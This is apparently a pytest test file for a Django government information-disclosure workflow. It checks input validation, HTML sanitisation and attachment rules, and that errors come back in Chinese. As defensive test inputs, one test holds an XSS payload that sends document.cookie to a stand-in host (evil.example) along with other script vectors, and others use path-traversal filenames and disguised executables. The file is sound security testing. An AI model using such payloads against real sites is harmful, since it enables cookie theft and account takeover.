"""Bad input to the actions: a clear Chinese InvalidInput, and nothing stored (not even half)."""
import re

import pytest
from django.conf import settings as django_settings
from django.test import override_settings

from audit.models import AuditRecord
from core.errors import InvalidInput, NotAllowedInState
from tests.factories import approve_all, draft, reload
from tests.hardening.test_faults import full_snapshot
from workflow import actions
from workflow.models import AttachmentBlob, Information, Revision

pytestmark = pytest.mark.django_db

CJK = re.compile(r"[\u4e00-\u9fff]")
VALID = {"title": "关于公布2024年度行政事业性收费目录清单的通知", "body": "<p>现将目录清单予以公布。</p>"}


def assert_refused(run, field=None):
    before = full_snapshot()
    with pytest.raises(InvalidInput) as exc:
        run()
    err = exc.value
    assert CJK.search(err.message), f"message is not Chinese: {err.message!r}"
    assert err.status == 400 and err.code == "invalid_input"
    assert err.as_dict()["message"] == err.message
    if field:
        assert err.field == field, (err.field, err.message)
    assert full_snapshot() == before, "bad input stored something"
    return err


BAD_FIELDS = [
    ({"title": "长" * 301}, "title"),
    ({"title": ""}, "title"),
    ({"doc_number": "号" * 101}, "doc_number"),
    ({"scope_audience": "村" * 201, "scope": "limited"}, "scope_audience"),
    ({"created_date": "2024-13-45"}, "created_date"),
    ({"created_date": "2024-02-30"}, "created_date"),
    ({"created_date": "昨天"}, "created_date"),
    ({"created_date": 20240101}, "created_date"),
    ({"display_days": -1}, "display_days"),
    ({"display_days": "七天"}, "display_days"),
    ({"fee_amount": "一百元"}, "fee_amount"),
    ({"fee_amount": "1" * 20}, "fee_amount"),
    ({"info_type": "secret_plan"}, "info_type"),
    ({"disclosure_mode": "everyone"}, "disclosure_mode"),
    ({"scope": "limited"}, "scope_audience"),
    ({"topic": 999999}, "topic"),
    ({"status": "published"}, "status"),
    ({"index_number": "X/2024-00001"}, "index_number"),
    ({"online": True}, "online"),
    ({"drafter": 1}, "drafter"),
]


@pytest.mark.parametrize("bad,field", BAD_FIELDS, ids=[f"{f}-{i}" for i, (_, f) in enumerate(BAD_FIELDS)])
def test_create_with_bad_field_stores_nothing(world, bad, field):
    assert_refused(lambda: actions.create_item(actor=world.drafter, agency=world.dept, data={**VALID, **bad}),
                   field=field)
    assert not Information.objects.exists()


@pytest.mark.parametrize("bad,field", BAD_FIELDS[:12], ids=[f"{f}-{i}" for i, (_, f) in enumerate(BAD_FIELDS[:12])])
def test_edit_with_bad_field_changes_nothing(world, bad, field):
    item = draft(world)
    assert_refused(lambda: actions.edit_item(actor=world.drafter, item=item, data=bad), field=field)
    assert reload(item).title == "关于印发2024年政务公开工作要点的通知"


def test_proofread_with_bad_field_changes_nothing(world):
    item = draft(world)
    actions.submit_item(actor=world.drafter, item=item)
    task = actions.open_task_for(item)
    assert_refused(lambda: actions.proofread_step(actor=world.proof1, task=task, data={"title": "长" * 301}),
                   field="title")


def test_script_in_body_is_sanitised(world):
    body = ('<p onclick="steal()">通知正文</p><script>document.location="http://evil.example/"+document.cookie'
            '</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">链接</a>'
            '<iframe src="http://evil.example"></iframe><style>body{display:none}</style>')
    item = actions.create_item(actor=world.drafter, agency=world.dept, data={**VALID, "body": body})
    for stored in (reload(item).body, reload(item).current_revision.body):
        lowered = stored.lower()
        for bad in ("<script", "onclick", "onerror", "javascript:", "<iframe", "<style", "document.cookie"):
            assert bad not in lowered, (bad, stored)
        assert "通知正文" in stored and "链接" in stored


def test_script_added_by_proofreader_is_sanitised(world):
    item = draft(world)
    actions.submit_item(actor=world.drafter, item=item)
    task = actions.open_task_for(item)
    actions.proofread_step(actor=world.proof1, task=task, data={"body": "<p>校对</p><script>alert(1)</script>"})
    assert "<script" not in reload(item).current_revision.body


def test_script_in_title_is_kept_as_text_for_escaping(world):
    # Titles are plain text: templates and the API escape them. It must be stored verbatim, not executed.
    item = actions.create_item(actor=world.drafter, agency=world.dept,
                               data={**VALID, "title": "<script>alert(1)</script>关于公布名单的通知"})
    from django.template import Context, Template

    html = Template("{{ item.title }}").render(Context({"item": reload(item)}))
    assert "<script>" not in html and "&lt;script&gt;" in html


@pytest.mark.parametrize("name", ["病毒.exe", "脚本.js", "网页.html", "macro.docm", "shell.sh", "noext", "a.pdf.exe",
                                  "page.svg", ".pdf"])
def test_wrong_attachment_type_is_refused(world, name):
    att = actions.NewAttachment(name, b"MZ\x90\x00 pretend executable")
    err = assert_refused(lambda: actions.create_item(actor=world.drafter, agency=world.dept, data=VALID,
                                                     attachments=[att]), field="attachments")
    assert "附件" in err.message
    assert not AttachmentBlob.objects.exists()


@override_settings(SHENFA={**django_settings.SHENFA, "ATTACHMENT_MAX_BYTES": 1024})
def test_oversized_attachment_is_refused(world):
    big = actions.NewAttachment("名单.pdf", b"%PDF-1.4 " + b"0" * 1024)
    err = assert_refused(lambda: actions.create_item(actor=world.drafter, agency=world.dept, data=VALID,
                                                     attachments=[big]), field="attachments")
    assert "超过大小限制" in err.message


def test_oversized_attachment_at_the_default_limit(world):
    from core.conf import shenfa_setting

    limit = shenfa_setting("ATTACHMENT_MAX_BYTES")
    big = actions.NewAttachment("扫描件.pdf", b"%PDF" + b"\0" * (limit - 3))
    assert_refused(lambda: actions.create_item(actor=world.drafter, agency=world.dept, data=VALID,
                                               attachments=[big]), field="attachments")


def test_empty_and_nameless_attachments_are_refused(world):
    for att in (actions.NewAttachment("空文件.pdf", b""), actions.NewAttachment("", b"data"),
                actions.NewAttachment("../../", b"data")):
        assert_refused(lambda att=att: actions.create_item(actor=world.drafter, agency=world.dept, data=VALID,
                                                           attachments=[att]), field="attachments")


def test_one_bad_attachment_among_good_ones_stores_none_of_them(world):
    item = draft(world)
    good = actions.NewAttachment("说明.pdf", b"%PDF-1.4 good")
    bad = actions.NewAttachment("工具.exe", b"MZ")
    assert_refused(lambda: actions.edit_item(actor=world.drafter, item=item, add_attachments=[good, bad]))
    assert Revision.objects.filter(item=item).count() == 1


def test_path_in_attachment_name_is_stripped(world):
    item = actions.create_item(actor=world.drafter, agency=world.dept, data=VALID,
                               attachments=[actions.NewAttachment("../../etc/名单.pdf", b"%PDF-1.4")])
    assert [a.name for a in item.current_revision.attachments.all()] == ["名单.pdf"]


def test_removing_a_missing_attachment_is_refused(world):
    item = draft(world)
    assert_refused(lambda: actions.edit_item(actor=world.drafter, item=item, remove_attachments=["不存在.pdf"]),
                   field="attachments")


@pytest.mark.parametrize("name,data", [
    ("低保名单.xlsx", b"PK\x03\x04 this is not a real workbook"),
    ("低保名单.xls", b"\xd0\xcf\x11\xe0 broken ole"),
    ("低保名单.csv", b"\xff\xfe\x00\xd8\x00\xdc garbage \x80\x81"),
    ("通知.docx", b"not a zip at all"),
    ("通知.pdf", b"MZ\x90\x00 an executable named .pdf"),
])
def test_malformed_or_mislabelled_file_is_flagged_and_blocks_secrecy_approval(world, name, data):
    # Unreadable files are stored (the drafter may need to replace them) but the privacy pre-check flags
    # them, and the secrecy reviewer cannot pass them without a masked revision or a recorded legal ground.
    item = actions.create_item(actor=world.drafter, agency=world.dept, data=VALID,
                               attachments=[actions.NewAttachment(name, data)])
    scan = reload(item).current_revision.scan
    assert scan["blocking"] is True
    assert any(f["kind"] == "unreadable" and CJK.search(f["masked"]) for f in scan["findings"]), scan
    actions.submit_item(actor=world.drafter, item=item)
    task = approve_all(world, item, stop_before="secrecy_review")
    audit_before = AuditRecord.objects.count()
    err = assert_refused(lambda: actions.approve_step(actor=world.secrecy, task=task,
                                                      secrecy={"result": "disclosable"}), field="override_ground")
    assert "保密预检" in err.message
    assert AuditRecord.objects.count() == audit_before


def test_reasons_are_required(world):
    item = draft(world)
    actions.submit_item(actor=world.drafter, item=item)
    task = approve_all(world, item, stop_before="first_review")
    assert_refused(lambda: actions.reject_step(actor=world.first, task=task, reason="   "), field="reason")
    assert_refused(lambda: actions.return_step(actor=world.first, task=task, to_step="proof_1", reason=""),
                   field="reason")
    assert_refused(lambda: actions.return_step(actor=world.first, task=task, to_step="final_review", reason="x"),
                   field="to_step")
    assert_refused(lambda: actions.return_step(actor=world.first, task=task, to_step="no_such_step", reason="x"),
                   field="to_step")


@pytest.mark.parametrize("decision,field", [
    ({"result": "maybe"}, "result"),
    ({"result": "not_disclosable"}, "ground"),
    ({"result": "not_disclosable", "ground": "i_said_so"}, "ground"),
    ({"result": "partial"}, "result"),
    ({"result": "disclosable", "scope": "galaxy"}, "scope"),
])
def test_bad_secrecy_decision_is_refused(world, decision, field):
    item = draft(world)
    actions.submit_item(actor=world.drafter, item=item)
    task = approve_all(world, item, stop_before="secrecy_review")
    assert_refused(lambda: actions.approve_step(actor=world.secrecy, task=task, secrecy=decision), field=field)


def test_empty_item_cannot_be_submitted(world):
    item = actions.create_item(actor=world.drafter, agency=world.dept, data={"title": "空白信息", "body": ""})
    assert_refused(lambda: actions.submit_item(actor=world.drafter, item=item), field="body")


def test_stale_hash_is_refused_without_change(world):
    item = draft(world)
    before = full_snapshot()
    with pytest.raises(NotAllowedInState) as exc:
        actions.edit_item(actor=world.drafter, item=item, data={"title": "新标题"}, expected_hash="0" * 64)
    assert exc.value.code == "stale_revision" and CJK.search(exc.value.message)
    assert full_snapshot() == before
